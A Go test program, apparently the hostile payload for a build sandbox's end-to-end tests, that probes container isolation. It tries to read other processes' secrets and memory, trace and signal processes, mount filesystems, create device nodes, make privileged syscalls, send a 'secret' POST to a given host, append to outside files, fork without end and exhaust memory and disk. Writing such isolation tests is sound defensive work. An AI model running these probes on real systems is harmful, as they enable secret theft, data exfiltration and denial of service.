//go:build linux

// Command hostile is what a hostile Dockerfile runs in the end-to-end tests:
// each attack tries what it must not be able to do and prints a line that
// begins with "ESCAPED" for everything that it could.
package main

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"net"
	"os"
	"os/exec"
	"os/signal"
	"path/filepath"
	"strconv"
	"strings"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// attack is given the arguments after its name.
type attack func(args []string)

func main() {
	attacks := map[string]attack{
		"secrets": secrets, "outside": outside, "ptrace": ptrace, "signals": signals, "sockets": sockets, "mounts": mounts,
		"devices": devices, "calls": calls, "egress": egress, "exfiltrate": exfiltrate, "write": write, "fork": fork, "memory": memory,
		"shared": shared, "disk": disk, "unlinked": unlinked, "holes": holes, "files": openFiles, "output": output,
	}
	run, ok := attacks[argument(1)]
	if !ok {
		fmt.Fprintln(os.Stderr, "no such attack")
		os.Exit(2)
	}
	run(os.Args[2:])
	fmt.Println("attacked:", argument(1))
	if escaped {
		os.Exit(1)
	}
}

func argument(n int) string {
	if n < len(os.Args) {
		return os.Args[n]
	}
	return ""
}

var escaped bool //nolint:gochecknoglobals // how the program ends

func escape(format string, args ...any) {
	escaped = true
	fmt.Printf("ESCAPED "+format+"\n", args...)
}

// processes are those /proc shows, but for this one.
func processes() []int {
	entries, _ := os.ReadDir("/proc")
	var out []int
	for _, e := range entries {
		if pid, err := strconv.Atoi(e.Name()); err == nil && pid != os.Getpid() {
			out = append(out, pid)
		}
	}
	return out
}

// secrets looks for a mark, given in two halves so that nobody's arguments hold
// it, in what other processes have: environment, arguments, files, memory.
func secrets(args []string) {
	mark := []byte(args[0] + args[1])
	for _, pid := range processes() {
		dir := fmt.Sprintf("/proc/%d/", pid)
		for _, name := range []string{"environ", "cmdline"} {
			if b, err := os.ReadFile(dir + name); err == nil && bytes.Contains(b, mark) {
				escape("the mark is in %s%s", dir, name)
			}
		}
		if readMemory(pid, mark) {
			escape("the mark is in the memory of %d", pid)
		}
		for _, name := range []string{"root", "cwd"} {
			searchTree(dir+name+"/proc/self/environ", mark)
		}
		fds, _ := os.ReadDir(dir + "fd")
		for _, fd := range fds {
			if b, err := readSome(dir + "fd/" + fd.Name()); err == nil && bytes.Contains(b, mark) {
				escape("the mark is in %sfd/%s", dir, fd.Name())
			}
		}
	}
	for _, kv := range os.Environ() {
		if strings.Contains(kv, string(mark)) {
			escape("the mark is in this environment")
		}
	}
	for _, dir := range []string{"/etc", "/run", "/root", "/home", "/tmp", "/var/tmp", "/dev/shm", "/mnt", "/srv"} {
		searchTree(dir, mark)
	}
}

// readSome reads the begin of a file that is not a pipe or device.
func readSome(path string) ([]byte, error) {
	fi, err := os.Stat(path)
	if err != nil || !fi.Mode().IsRegular() {
		return nil, errors.New("not a file")
	}
	f, err := os.Open(path)
	if err != nil {
		return nil, err
	}
	defer f.Close()
	return io.ReadAll(io.LimitReader(f, 1<<20))
}

func searchTree(root string, mark []byte) {
	_ = filepath.WalkDir(root, func(path string, _ fs.DirEntry, err error) error {
		if err != nil {
			return nil //nolint:nilerr // what cannot be read is no escape
		}
		if b, err := readSome(path); err == nil && bytes.Contains(b, mark) {
			escape("the mark is in %s", path)
		}
		return nil
	})
}

func readMemory(pid int, mark []byte) bool {
	maps, err := os.ReadFile(fmt.Sprintf("/proc/%d/maps", pid))
	if err != nil {
		return false
	}
	mem, err := os.Open(fmt.Sprintf("/proc/%d/mem", pid))
	if err != nil {
		return false
	}
	defer mem.Close()
	for _, line := range strings.Split(string(maps), "\n") {
		var from, to int64
		if n, _ := fmt.Sscanf(line, "%x-%x rw", &from, &to); n != 2 || to-from > 64<<20 {
			continue
		}
		b := make([]byte, to-from)
		if n, _ := mem.ReadAt(b, from); bytes.Contains(b[:n], mark) {
			return true
		}
	}
	return false
}

// outside tries to read, list and write what lies outside, by its path there.
func outside(args []string) {
	for _, path := range args {
		for _, way := range []string{path, "/proc/1/root" + path, "/proc/self/root" + path, "/../../../../.." + path} {
			if _, err := os.Lstat(way); err == nil {
				escape("%s is there", way)
			}
		}
	}
}

func ptrace([]string) {
	for _, pid := range append(processes(), 1, os.Getppid()) {
		if pid == os.Getppid() && pid != 1 {
			continue // our own shell
		}
		if err := unix.PtraceSeize(pid); err == nil {
			escape("process %d can be traced", pid)
		}
		b := make([]byte, 8)
		local := []unix.Iovec{{Base: &b[0], Len: 8}}
		if _, err := unix.ProcessVMReadv(pid, local, []unix.RemoteIovec{{Base: 0x400000, Len: 8}}, 0); err == nil || errors.Is(err, unix.EFAULT) {
			escape("the memory of process %d can be read", pid)
		}
	}
}

// signals asks of every number whether it may be signalled. The step's shell
// and what started it may and, in a process namespace of its own, its init.
func signals(args []string) {
	own := []int{os.Getpid(), os.Getppid()}
	if starter, err := strconv.Atoi(os.Getenv("STEP_PARENT")); err == nil {
		own = append(own, starter) // of the step's shell
	}
	if len(args) > 0 && args[0] == "T1" {
		own = append(own, 1)
	}
	for pid := 1; pid < 1<<17; pid++ {
		if unix.Kill(pid, 0) != nil {
			continue
		}
		thread := false // of one of ours
		for _, o := range own {
			thread = thread || unix.Tgkill(o, pid, 0) == nil
		}
		if !thread {
			b, _ := os.ReadFile(fmt.Sprintf("/proc/%d/comm", pid))
			escape("process %d can be signalled: %s", pid, b)
		}
	}
}

// sockets tries names in the abstract space and paths of sockets outside.
func sockets(args []string) {
	for _, name := range args {
		c, err := net.DialTimeout("unix", name, time.Second)
		if err == nil {
			c.Close()
			escape("socket %s answers", name)
		}
	}
}

func mounts([]string) {
	if err := os.MkdirAll("/tmp/m", 0o755); err != nil {
		fmt.Println(err)
	}
	for _, m := range [][3]string{{"tmpfs", "tmpfs", ""}, {"proc", "proc", ""}, {"/", "", "bind"}, {"overlay", "overlay", ""}} {
		flags := uintptr(0)
		if m[2] == "bind" {
			flags = unix.MS_BIND
		}
		if err := unix.Mount(m[0], "/tmp/m", m[1], flags, ""); err == nil {
			escape("%s %s can be mounted", m[1], m[2])
		}
	}
	if err := unix.Mount("", "/proc/sys", "", unix.MS_REMOUNT|unix.MS_BIND, ""); err == nil {
		escape("/proc/sys can be remounted")
	}
	if err := unix.Unmount("/proc", unix.MNT_DETACH); err == nil {
		escape("/proc can be unmounted")
	}
	for name, flag := range map[string]int{"user": unix.CLONE_NEWUSER, "mount": unix.CLONE_NEWNS, "network": unix.CLONE_NEWNET, "process": unix.CLONE_NEWPID} {
		if err := unix.Unshare(flag); err == nil {
			escape("a %s namespace can be made", name)
		}
	}
	for _, file := range []string{"/proc/sys/kernel/hostname", "/proc/sys/vm/overcommit_memory", "/proc/sysrq-trigger", "/sys/kernel/uevent_helper"} {
		if f, err := os.OpenFile(file, os.O_WRONLY, 0); err == nil {
			var st unix.Statfs_t
			// where no /proc can be mounted, plain files stand in for it
			if unix.Fstatfs(int(f.Fd()), &st) == nil && (st.Type == unix.PROC_SUPER_MAGIC || st.Type == unix.SYSFS_MAGIC) {
				escape("%s can be written", file)
			}
			f.Close()
		}
	}
}

// devices makes nodes of disks and memory and opens what can be made.
func devices([]string) {
	for i, d := range [][3]int{
		{unix.S_IFCHR, 1, 1}, {unix.S_IFCHR, 1, 2}, {unix.S_IFCHR, 1, 11}, {unix.S_IFBLK, 8, 0}, {unix.S_IFBLK, 254, 0}, {unix.S_IFBLK, 259, 0},
		{unix.S_IFBLK, 7, 0}, {unix.S_IFCHR, 10, 229}, {unix.S_IFCHR, 10, 237},
	} {
		for _, dir := range []string{"/tmp", "/dev", "/dev/shm", "/"} {
			node := fmt.Sprintf("%s/node%d", dir, i)
			if err := unix.Mknod(node, uint32(d[0])|0o600, int(unix.Mkdev(uint32(d[1]), uint32(d[2])))); err != nil {
				continue
			}
			f, err := os.Open(node)
			if err == nil {
				f.Close()
				escape("device %d:%d can be opened at %s", d[1], d[2], node)
			}
			if errors.Is(err, unix.ENXIO) || errors.Is(err, unix.ENODEV) {
				escape("device %d:%d at %s is looked for", d[1], d[2], node)
			}
			_ = os.Remove(node)
		}
	}
}

// calls makes system calls no build needs.
func calls([]string) {
	var ring [120]byte
	zero := uintptr(unsafe.Pointer(&ring[0]))
	for name, c := range map[string][4]uintptr{
		"io_uring_setup":   {unix.SYS_IO_URING_SETUP, 4, zero, 0},
		"bpf":              {unix.SYS_BPF, 0, zero, 48},
		"perf_event_open":  {unix.SYS_PERF_EVENT_OPEN, zero, 0, ^uintptr(0)},
		"userfaultfd":      {unix.SYS_USERFAULTFD, 0, 0, 0},
		"keyctl":           {unix.SYS_KEYCTL, 0, ^uintptr(2), 1},
		"add_key":          {unix.SYS_ADD_KEY, zero, zero, zero},
		"reboot":           {unix.SYS_REBOOT, 0, 0, 0},
		"kexec_load":       {unix.SYS_KEXEC_LOAD, 0, 0, zero},
		"init_module":      {unix.SYS_INIT_MODULE, zero, 0, zero},
		"open_by_handle":   {unix.SYS_OPEN_BY_HANDLE_AT, 0, zero, 0},
		"swapon":           {unix.SYS_SWAPON, zero, 0, 0},
		"fsopen":           {unix.SYS_FSOPEN, zero, 0, 0},
		"open_tree":        {unix.SYS_OPEN_TREE, 0, zero, 1},
		"name_to_handle":   {unix.SYS_NAME_TO_HANDLE_AT, 0, zero, 0},
		"quotactl":         {unix.SYS_QUOTACTL, 0, zero, 0},
		"syslog":           {unix.SYS_SYSLOG, 3, zero, 100},
		"clock_settime":    {unix.SYS_CLOCK_SETTIME, 0, zero, 0},
		"pidfd_getfd of 1": {unix.SYS_PIDFD_GETFD, 0, 0, 0},
	} {
		_, _, errno := unix.Syscall(c[0], c[1], c[2], c[3])
		if errno != unix.EPERM && errno != unix.ENOSYS && errno != unix.EACCES {
			if name == "name_to_handle" || name == "pidfd_getfd of 1" && errno == unix.EBADF {
				continue // harmless alone: handles cannot be opened; there is no descriptor
			}
			escape("%s answers %v", name, errno)
		}
	}
}

// egress connects to whatever is given, by every kind of socket.
func egress(args []string) {
	for _, kind := range []struct{ domain, typ, proto int }{
		{unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_ICMP}, {unix.AF_INET6, unix.SOCK_RAW, unix.IPPROTO_ICMPV6},
		{unix.AF_PACKET, unix.SOCK_RAW, 0x0300}, {unix.AF_VSOCK, unix.SOCK_STREAM, 0}, {unix.AF_ALG, unix.SOCK_SEQPACKET, 0},
	} {
		fd, err := unix.Socket(kind.domain, kind.typ, kind.proto)
		if err != nil {
			continue
		}
		// a raw socket in a network of one loopback reaches nothing
		if kind.domain == unix.AF_VSOCK || kind.domain == unix.AF_ALG {
			escape("a socket of family %d can be made", kind.domain)
		}
		unix.Close(fd)
	}
	for _, target := range args {
		network, address, _ := strings.Cut(target, "/")
		c, err := net.DialTimeout(network, address, 2*time.Second)
		if err != nil {
			continue
		}
		// datagrams connect to anything: only an answer counts
		_ = c.SetDeadline(time.Now().Add(time.Second))
		_, _ = c.Write([]byte("GET / HTTP/1.0\r\n\r\n"))
		b, _ := io.ReadAll(io.LimitReader(c, 4096)) // until the deadline
		switch {
		case bytes.Contains(b, []byte("drydock refused ")):
			fmt.Printf("%s: the gateway answers in its place, and refuses\n", target)
		case len(b) > 0:
			escape("%s answers %q", target, b)
		case network == "tcp":
			escape("%s accepts", target)
		}
		c.Close()
	}
}

// exfiltrate sends to a name, and does not mind what becomes of it.
func exfiltrate(args []string) {
	c, err := net.DialTimeout("tcp", args[0]+":80", 5*time.Second)
	if err != nil {
		fmt.Println(err)
		return
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(5 * time.Second))
	fmt.Fprintf(c, "POST /secret HTTP/1.1\r\nHost: %s\r\nContent-Length: 6\r\nConnection: close\r\n\r\nsecret", args[0])
	_, _ = io.Copy(io.Discard, c)
}

// write changes the files given: the test looks at them from outside.
func write(args []string) {
	for _, path := range args {
		f, err := os.OpenFile(path, os.O_WRONLY|os.O_APPEND, 0)
		if err == nil {
			_, err = f.WriteString("\n# pwned\n")
			f.Close()
		}
		fmt.Println(path, err)
	}
}

// fork starts copies of itself without end.
func fork([]string) {
	for {
		cmd := exec.Command("/hostile", "fork") // its path: no /proc is needed
		if err := cmd.Start(); err != nil {
			time.Sleep(time.Millisecond)
		}
	}
}

// memory fills memory, up to a bound that keeps a machine alive whose limits
// do not hold.
func memory(args []string) {
	limit := size(args)
	var held [][]byte
	for n := int64(0); n < limit; n += 16 << 20 {
		b := make([]byte, 16<<20)
		for i := 0; i < len(b); i += 4096 {
			b[i] = 1
		}
		held = append(held, b)
	}
	time.Sleep(settle)
	escape("%d MiB of memory were had", len(held)*16)
}

// shared fills memory that is no process's own: files without a name, which
// are not mapped.
func shared(args []string) {
	limit := size(args)
	b := bytes.Repeat([]byte{1}, 16<<20)
	for n := int64(0); n < limit; n += int64(len(b)) {
		fd, err := unix.MemfdCreate("fill", 0)
		if err == nil {
			_, err = unix.Write(fd, b)
		}
		if err != nil {
			fmt.Println("filling memory:", err)
			os.Exit(1)
		}
	}
	time.Sleep(settle)
	escape("%d MiB of memory were had", limit>>20)
}

// settle is how long a step that has too much waits to be ended.
const settle = 5 * time.Second

// fileSize is that of each file of many.
const fileSize = 64 << 20

// disk fills the root with files, up to a bound as memory.
func disk(args []string) {
	limit := size(args)
	b := make([]byte, fileSize)
	for n := int64(0); n < limit; n += fileSize {
		if err := os.WriteFile(fmt.Sprintf("/fill%d", n), b, 0o600); err != nil {
			fmt.Println("filling the disk:", err)
			os.Exit(1)
		}
	}
	time.Sleep(settle)
	escape("%d MiB of disk were had", limit>>20)
}

// unlinked fills the disk with files that have no name.
func unlinked(args []string) {
	limit := size(args)
	b := make([]byte, fileSize)
	var held []*os.File
	for n := int64(0); n < limit; n += fileSize {
		f, err := os.Create("/fill")
		if err == nil {
			_, err = f.Write(b)
			err = errors.Join(err, os.Remove("/fill"))
		}
		if err != nil {
			fmt.Println("filling the disk:", err)
			os.Exit(1)
		}
		held = append(held, f)
	}
	time.Sleep(settle)
	escape("%d MiB of disk were had in %d files", limit>>20, len(held))
}

// holes makes a file that is larger than any disk and takes no room.
func holes([]string) {
	signal.Ignore(unix.SIGXFSZ) // to be told of the limit, not ended by it
	f, err := os.Create("/holes")
	if err != nil {
		fmt.Println(err)
		return
	}
	defer f.Close()
	if err := f.Truncate(1 << 46); err == nil {
		escape("a file of 64 TiB was had")
	}
	if err := unix.Fallocate(int(f.Fd()), unix.FALLOC_FL_ZERO_RANGE, 1<<46, 1); err == nil {
		escape("a file of 64 TiB was had")
	}
}

// openFiles opens files up to a number.
func openFiles(args []string) {
	limit := size(args)
	for n := int64(0); n < limit; n++ {
		if _, err := unix.Open("/", unix.O_RDONLY, 0); err != nil {
			fmt.Println("opening files:", err)
			return
		}
	}
	escape("%d files were open", limit)
}

// output writes lines without end, up to a bound.
func output(args []string) {
	limit := size(args)
	line := append(bytes.Repeat([]byte("x"), 1023), '\n')
	for n := int64(0); n < limit; n += int64(len(line)) {
		if _, err := os.Stdout.Write(line); err != nil {
			os.Exit(1)
		}
	}
}

func size(args []string) int64 {
	if len(args) == 0 {
		return 0
	}
	n, err := strconv.ParseInt(args[0], 10, 64)
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(2)
	}
	return n
}
